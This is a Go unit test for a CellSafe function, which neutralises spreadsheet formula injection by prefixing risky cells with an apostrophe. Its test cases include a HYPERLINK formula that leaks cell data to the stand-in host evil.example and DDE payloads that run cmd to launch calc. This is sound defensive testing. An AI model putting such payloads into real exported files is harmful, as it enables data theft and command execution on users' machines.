package report

import "testing"

func TestCellSafe(t *testing.T) {
	tests := []struct {
		name string
		in   string
		want string
	}{
		{name: "plain text", in: "Pump 3", want: "Pump 3"},
		{name: "empty", in: "", want: ""},
		{name: "formula", in: "=1+1", want: "'=1+1"},
		{name: "HYPERLINK formula", in: `=HYPERLINK("http://evil.example/?"&A1,"click")`, want: `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
		{name: "DDE after a plus", in: "+cmd|' /C calc'!A0", want: "'+cmd|' /C calc'!A0"},
		{name: "arithmetic hiding a call", in: "-2+3+cmd|' /C calc'!A0", want: "'-2+3+cmd|' /C calc'!A0"},
		{name: "at sign", in: "@SUM(A1:A9)", want: "'@SUM(A1:A9)"},
		{name: "leading tab", in: "\t=1+1", want: "'\t=1+1"},
		{name: "leading carriage return", in: "\r=1+1", want: "'\r=1+1"},
		{name: "text after a dash", in: "-- see note", want: "'-- see note"},
		{name: "negative decimal", in: "-12.5", want: "-12.5"},
		{name: "positive sign", in: "+7", want: "+7"},
		{name: "decimal comma and thousands", in: "-1 234,50", want: "-1 234,50"},
		{name: "no-break space thousands", in: "-1\u00a0234", want: "-1\u00a0234"},
		{name: "apostrophe thousands", in: "-1'234.50", want: "-1'234.50"},
		{name: "exponent", in: "-1.5e-3", want: "-1.5e-3"},
		{name: "phone number", in: "+41 79 123 45 67", want: "+41 79 123 45 67"},
		{name: "sign and separators, no digit", in: "-.", want: "'-."},
		{name: "exponent without digits", in: "-1e", want: "'-1e"},
		{name: "exponent with letters", in: "-1e5x", want: "'-1e5x"},
		{name: "two signs", in: "--5", want: "'--5"},
		{name: "percent is not a plain number", in: "-5%", want: "'-5%"},
		{name: "hex is not a plain number", in: "-0x1F", want: "'-0x1F"},
		{name: "minus alone", in: "-", want: "-"},
		{name: "equals alone", in: "=", want: "="},
		{name: "formula character later", in: "a=1", want: "a=1"},
		{name: "leading space", in: " =1", want: " =1"},
		{name: "number without sign", in: "12", want: "12"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			if got := CellSafe(tc.in); got != tc.want {
				t.Errorf("CellSafe(%q) = %q, want %q", tc.in, got, tc.want)
			}
		})
	}
}
